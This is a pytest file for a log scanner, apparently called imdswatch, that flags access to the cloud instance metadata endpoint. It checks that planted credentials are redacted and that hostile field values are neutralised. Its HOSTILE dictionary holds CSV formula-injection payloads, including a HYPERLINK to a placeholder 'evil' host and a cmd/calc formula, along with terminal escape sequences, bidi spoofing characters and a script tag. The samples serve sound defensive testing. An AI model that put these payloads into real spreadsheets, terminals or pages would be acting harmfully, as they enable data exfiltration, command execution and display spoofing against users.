"""No secret reaches any output, in any format, with -v, in an error or in a reason; key ids do (DESIGN 7).

Secrets are planted into every word of the samples of every schema, alone and with the names they have in headers,
query parameters, documents and cookies. Whatever a record then is (a finding, a broken line, nothing), no twelve
characters of a secret may come out.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import string
import subprocess
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from commandline import command, environment, run, scan
from imdswatch.layouts.result import Header
from imdswatch.read.records import looks_multiline_json
from imdswatch.redact import redact
from imdswatch.report.escape import visible
from imdswatch.schema import load_schemas
from test_schema_samples import CASES, _records

pytestmark = pytest.mark.slow  # part of `make test`, not of `make check`

_RANDOM = random.Random(2021)
_BASE64 = string.ascii_letters + string.digits + "+/"
_URL_SAFE = string.ascii_letters + string.digits + "-_"


def _some(letters: str, count: int) -> str:
    return "".join(_RANDOM.choices(letters, k=count))


TOKEN = "AQAAA" + _some(_URL_SAFE, 49) + "=="
SECRET_KEY = _some(_BASE64, 40)
SESSION = "IQoJb3JpZ2luX2Vj" + _some(_BASE64, 700) + "=="
SIGNATURE = _some("0123456789abcdef", 64)
WORD = _some(_URL_SAFE, 18)  # an impostor's token, a password, a cookie: no shape, only a name
KEY_ID = "ASIAQNZGOTKLKZ7A5JEH"
SECRETS = (TOKEN, SECRET_KEY, SESSION, SIGNATURE, WORD)


def _quoted(text: str) -> str:
    return text.replace("/", "%2F").replace("+", "%2B").replace("=", "%3D")


CARRIERS = (
    f"?X-Amz-Security-Token={_quoted(SESSION)}&X-Amz-Signature={SIGNATURE}",
    f"?X-Amz-Credential={KEY_ID}%2F20261122%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Signature={SIGNATURE}",
    f"?token={WORD}",
    f"?next=http%3A%2F%2Fuser%3A{WORD}%40169.254.169.254%2Flatest%2Fmeta-data%2F",
    f" X-aws-ec2-metadata-token: {TOKEN}",
    f" X-aws-ec2-metadata-token: {WORD}",
    f" X-Aws-Ec2-Metadata-Token={TOKEN}",
    f" Authorization: AWS4-HMAC-SHA256 Credential={KEY_ID}/20261122/eu-west-1/s3/aws4_request,"
    f" SignedHeaders=host;x-amz-date, Signature={SIGNATURE}",
    f" Authorization: Bearer {WORD}",
    f" Authorization: Negotiate {WORD}",
    f" Proxy-Authorization: Basic {WORD}==",
    f" Cookie: theme=dark; sid={WORD}; lang=en",
    f" Set-Cookie: {WORD}",
    f' {{"Code":"Success","AccessKeyId":"{KEY_ID}","SecretAccessKey":"{SECRET_KEY}","Token":"{SESSION}"}}',
    f' {{"name":"X-aws-ec2-metadata-token","value":"{WORD}"}} {{"value":"{WORD}","name":"Cookie"}}',
    f" aws_secret_access_key = {SECRET_KEY} aws_session_token = {SESSION}",
    f" {SECRET_KEY} {TOKEN} {SESSION}",
    f"?k={SECRET_KEY}&t={TOKEN}&{_quoted(SECRET_KEY)}",
    f";jsessionid={WORD}",
    f" http://user:{WORD}@169.254.169.254/latest/meta-data/",
    f"%20X-aws-ec2-metadata-token:%20{WORD}%0D%0ACookie:%20sid={WORD}",
)


def leaks(output: str) -> list[str]:
    """Return what of the secrets stands in an output: no twelve characters may."""
    # Text output folds long values, and values may come out percent-decoded.
    shown = re.sub(r"[\s│┃|]+", "", output)
    forms = [form for secret in SECRETS for form in {secret, _quoted(secret), secret.replace("/", "\\/")}]
    pieces = {form[at : at + 12] for form in forms for at in range(len(form) - 11)}
    return sorted(piece for piece in pieces if piece in shown)


# --- every schema -----------------------------------------------------------------------------------------------------


def _planted_json(value: Any, plant: Iterator[str]) -> Iterator[Any]:
    """Yield copies of the value with something planted into one of its texts each."""
    if isinstance(value, str):
        yield value + next(plant)
    elif isinstance(value, dict):
        for key, inner in value.items():
            for changed in _planted_json(inner, plant):
                yield {**value, key: changed}
    elif isinstance(value, list):
        for at, inner in enumerate(value):
            for changed in _planted_json(inner, plant):
                yield [*value[:at], changed, *value[at + 1 :]]


def _planted_text(text: str, plant: Iterator[str]) -> Iterator[str]:
    for match in re.finditer(r"[^\s,\"|;\[\]]+", text):
        yield text[: match.end()] + next(plant) + text[match.end() :]


def _planting() -> Iterator[str]:
    while True:
        yield from CARRIERS


def _planted(path: Path, plant: Iterator[str]) -> bytes:
    """Return a log of planted copies of some records of a sample that mean something, header lines kept."""
    log = path.with_name(path.name.replace(".expected.json", ".log")).read_bytes()
    stages = {entry["line"]: entry["stage"] for entry in json.loads(path.read_text())}
    reader, framed = _schemas().reader(), looks_multiline_json(log[:65536])
    out: list[bytes] = []
    left = 2
    for number, text in _records(log):
        if not framed and isinstance(reader.read(text), Header):
            out.append(text)
        if stages.get(number) is None or not left:
            continue
        left -= 1
        try:
            value = json.loads(text)
        except ValueError:
            out += [line.encode() for line in _planted_text(text.decode("utf-8", "replace"), plant)]
        else:
            out += [json.dumps(changed).encode() for changed in _planted_json(value, plant)]
    return b"\n".join(out) + b"\n"


@cache
def _schemas() -> Any:
    return load_schemas()


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("planted")
    plant = _planting()
    for path in CASES:
        log = _planted(path, plant)
        (folder / f"{path.parent.name}.{path.name.split('.')[0]}.log").write_bytes(log)
    return folder


@pytest.mark.parametrize("form", ["ndjson", "csv", "text"])
@pytest.mark.parametrize("each", [True, False], ids=["each", "grouped"])
def test_no_secret_of_any_schema_comes_out(form: str, each: bool, planted: Path, tmp_path: Path) -> None:
    done = run(tmp_path, "scan", planted, "--format", form, "-v", *(["--each"] if each else []))
    assert done.code == 1
    assert leaks(done.out + done.err) == []
    assert KEY_ID in done.out
    assert "[redacted]" in done.out
    if form == "ndjson" and each:
        firing = {Path(e["source"]).name.split(".")[0] for one in done.of("finding") for e in one["evidence"]}
        able = {path.parent.name for path in CASES if any(e["stage"] for e in json.loads(path.read_text()))}
        assert firing == able, "nothing was planted into what these schemas show"
        assert len(done.of("finding")) > 2000


def test_no_secret_of_unknown_lines_comes_out(tmp_path: Path) -> None:
    lines = [
        f"{left}{around}{right}"
        for carrier in CARRIERS
        for around in (" asked 169.254.169.254 for it ", " GET /latest/meta-data/iam/ ")
        for left, right in ((carrier, ""), ("", carrier), (carrier, carrier))
    ]
    lines += [
        f"{'x' * n} {carrier} {'y' * n} 169.254.169.254" for carrier in CARRIERS for n in range(0, 130, 3)
    ]
    lines += [f"169.254.169.254 {'y' * n} {carrier}" for carrier in CARRIERS for n in range(0, 130, 3)]
    path = tmp_path / "unknown.log"
    path.write_text("".join(line + "\n" for line in lines))
    for options in ((), ("--schema", "unknown")):
        done = scan(tmp_path, path, "--each", *options)
        assert len(done.of("finding")) >= 0.9 * len(lines)
        assert leaks(done.out + done.err) == []
        assert KEY_ID in done.out


def test_no_secret_of_a_record_too_long_comes_out(tmp_path: Path) -> None:
    # The endpoint stands where the record is cut, with a secret across the cut, at every distance.
    path = tmp_path / "long.log"
    with path.open("wb") as out:
        for shift in (0, 100, 300, 650, 1500, 2000):
            for name in ("Token: ", " "):
                filler = b"z" * ((16 << 20) - 4096 - shift)
                out.write(filler + f" {name}{SESSION} 169.254.169.254 ".encode() + b"z" * 9000 + b"\n")
    done = scan(tmp_path, path, "--each")
    assert len(done.of("finding")) == 12, "one record, one finding"
    assert leaks(done.out + done.err) == []


def test_no_secret_of_broken_records_comes_out(tmp_path: Path) -> None:
    record = {
        "dst": "169.254.169.254",
        "headers": [{"name": "X-aws-ec2-metadata-token", "value": WORD}],
        "x": TOKEN,
    }
    text = json.dumps(record)
    lines = [text[:end] for end in range(20, len(text))]
    path = tmp_path / "broken.log"
    path.write_text("\n".join(["{}", *lines]) + "\n")
    for form in ("ndjson", "csv", "text"):
        done = run(tmp_path, "scan", path, "--format", form, "-v")
        assert leaks(done.out + done.err) == []


def test_no_secret_of_a_site_or_rule_file_comes_out(tmp_path: Path) -> None:
    (tmp_path / "log").write_text("")
    for name, text in (
        ("site.toml", f"[site]\nname = \n# token = {WORD}\n"),
        ("site.toml", f"[accounts]\nexpected = ['{KEY_ID}']\npassword = '{WORD}'\n"),
    ):
        (tmp_path / name).write_text(text)
        done = run(tmp_path, "scan", tmp_path / "log", "--site", tmp_path / name, "-v")
        assert done.code == 2
        assert leaks(done.err) == []


def test_a_trace_of_our_own_bug_has_no_secret(tmp_path: Path) -> None:
    (tmp_path / "log").write_text("169.254.169.254\n")
    broken = "import imdswatch.scan.text as text\n"
    broken += f"def fail(*a, **b): raise ValueError('bad: token={WORD} {TOKEN} \\x1b[31m')\ntext.TextScan.run = fail"
    words = command("scan", tmp_path / "log", "-v", driver=broken)
    done = subprocess.run(words, capture_output=True, env=environment(), check=False)
    assert done.returncode == 70
    shown = done.stderr.decode()
    assert "ValueError" in shown
    # The lines of a trace show the source of the failing call, which is this test's own.
    assert leaks(shown) == []
    assert "\x1b" not in shown


# --- redact itself ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("carrier", CARRIERS)
def test_redact_leaves_no_piece(carrier: str) -> None:
    for text in (
        carrier,
        json.dumps(carrier),
        json.dumps({"a": json.dumps(carrier)}),
        carrier.replace("/", "\\/"),
    ):
        assert leaks(redact(text)) == []
        assert (KEY_ID in redact(text)) == (KEY_ID in text)


@pytest.mark.parametrize(
    "carrier",
    ["/latest/dynamic/{}", "/latest/meta-data/iam/security-credentials/{}", "/{}/x", "/a/b/{}/latest/c"],
)
def test_redact_finds_a_key_between_the_words_of_a_path(carrier: str) -> None:
    for written in (SECRET_KEY, _quoted(SECRET_KEY), _quoted(SECRET_KEY).replace("%", "%25")):
        shown = redact(carrier.format(written))
        assert not [
            piece for piece in re.split(r"/|%(?:25)*2[FB]", written) if len(piece) > 8 and piece in shown
        ]


KEPT = (
    "/computeMetadata/v1/instance/serviceAccounts/default/identity",
    "GET /latest/meta-data/iam/security-credentials/MyVeryLongRoleNameForProduction01 status 200",
    "PUT /latest/api/token",
    "X-aws-ec2-metadata-token-ttl-seconds: 21600",
    "10.0.0.5 -> 169.254.169.254 GET http://169.254.169.254/latest/dynamic/instance-identity/document",
    "Boto3/1.44.5 md/Botocore#1.44.5 ua/2.1 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.7 md/pyimpl#CPython",
    "/usr/lib/python3/dist-packages/awscli/customizations/configure/list.py",
    "/opt/Application Support/Users/JohnSmith/Documents/Reports/Quarterly/Final",
    "fd00:0ec2:0000:0000:0000:0000:0000:0254 169.254.169.254:80 02:00:00:00:00:01",
    f"AccessKeyId {KEY_ID}",
    "arn:aws:sts::123456789012:assumed-role/build-agent-production/i-0123456789abcdef0",
    "",
)


@pytest.mark.parametrize("text", KEPT)
def test_redact_keeps_what_is_no_secret(text: str) -> None:
    assert redact(text) == text


@pytest.mark.parametrize(
    "text",
    ["authorization: " + "a=" * 50_000, "token" * 20_000, "token" + " " * 100_000, "://" * 30_000, '"value":"' * 9000,
     "cookie=" * 20_000, "/a" * 50_000, "a1" * 50_000, "secret-" * 20_000, "\\" * 50_000, "token:\\\\" * 9000],
)  # fmt: skip
def test_redact_is_fast_on_hostile_text(text: str) -> None:
    import time

    began = time.process_time()
    redact(text)
    assert time.process_time() - began < 5.0


# --- what arrives is harmless -----------------------------------------------------------------------------------------

HOSTILE = {
    "escape sequence": "\x1b[31mred\x1b]0;title\x07",
    "C1": "\x9b31m",
    "bell and backspace": "\x07\x08\x7f",
    "new line": "\r\nimdswatch: clean, nothing found\n",
    "line separator": "\u2028clean\u2029",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069",
    "zero width": "a\u200bb\ufeffc\u00ad",
    "NUL": "a\x00b",
    "surrogate": "\ud800x",
    "tags": "\U000e0041\U000e0042",
    "formula": "=HYPERLINK(\"http://evil/\"&A1,\"click\")",
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)",
    "formula tab": "\t=1+1",
    "markup": "[bold red]x[/] <script>alert(1)</script>",
    "CSV quotes": '","","=1+1\n"',
}  # fmt: skip
_HIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff\U000e0000-\U000e0fff]"
)


def _hostile_log(folder: Path) -> Path:
    path = folder / "hostile.log"
    with path.open("w") as out:
        for number, text in enumerate(HOSTILE.values()):
            record = {
                "ts": 1795309301.5, "uid": f"C{number}", "id.orig_h": f"10.0.0.{number}", "id.orig_p": 1,
                "id.resp_h": "169.254.169.254", "id.resp_p": 80, "trans_depth": 1, "method": "GET",
                "host": "169.254.169.254", "uri": text, "user_agent": text, "request_body_len": 0,
            }  # fmt: skip
            out.write(json.dumps(record) + "\n")
            out.write(json.dumps({"who": text, "dst": "169.254.169.254", "host_name": text}) + "\n")
            unknown = text.replace("\n", " ").encode("utf-8", "replace").decode()
            out.write(f"{unknown} 169.254.169.254 {unknown}\n")
    return path


@pytest.mark.parametrize("form", ["ndjson", "csv", "text"])
def test_hostile_fields_arrive_harmless(form: str, tmp_path: Path) -> None:
    done = run(tmp_path, "scan", _hostile_log(tmp_path), "--format", form, "--each")
    assert done.code == 1
    plain = done.out.replace("\r\n", "\n") if form == "csv" else done.out
    assert _HIDDEN.findall(plain) == []
    assert not any(line.startswith("imdswatch: clean") for line in plain.splitlines())
    if form == "ndjson":
        agents = {one["victim"].get("user_agent") for one in done.of("finding") if "victim" in one}
        assert '=HYPERLINK("http://evil/"&A1,"click")' in agents, "ndjson is exact"
        assert len(done.of("finding")) == 3 * len(HOSTILE)
    if form == "csv":
        rows = list(csv.reader(io.StringIO(done.out, newline="")))
        assert len({len(row) for row in rows}) == 1
        risky = [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
        assert risky == []


def test_errors_are_harmless_too(tmp_path: Path) -> None:
    name = "\x1b[31m\u202e\nno such"
    for words in (
        ["scan", name],
        ["scan", "--schema", name, tmp_path],
        ["scan", "--since", name, tmp_path],
        ["scan", "--site", name, tmp_path],
        ["scan", f"--{name}", tmp_path],
        ["rules", name],
        [name],
    ):
        done = run(tmp_path, *words)
        assert done.code in (2, 3)
        assert "\x1b" not in done.out + done.err
        assert "\u202e" not in done.out + done.err
    assert visible(name) == "\\x1b[31m\\u202e\\nno such"


@pytest.mark.parametrize(
    "text",
    [
        "X-aws-ec2-metadata-token: [redacted] GET",
        "/x?token=[redacted]&a=b",
        "Authorization: [redacted]",
        "authorization_token: hunter22hunter22",
        "token=hunter22hunter22 then token=[redacted]",
    ],
)
def test_what_was_cut_before_is_not_cut_again(text: str) -> None:
    once = redact(text)
    assert "hunter" not in once
    assert "]]" not in once
    assert redact(once) == once
    assert redact("token=[redacted4hunter22") == "token=[redacted]", "only the whole mark counts"
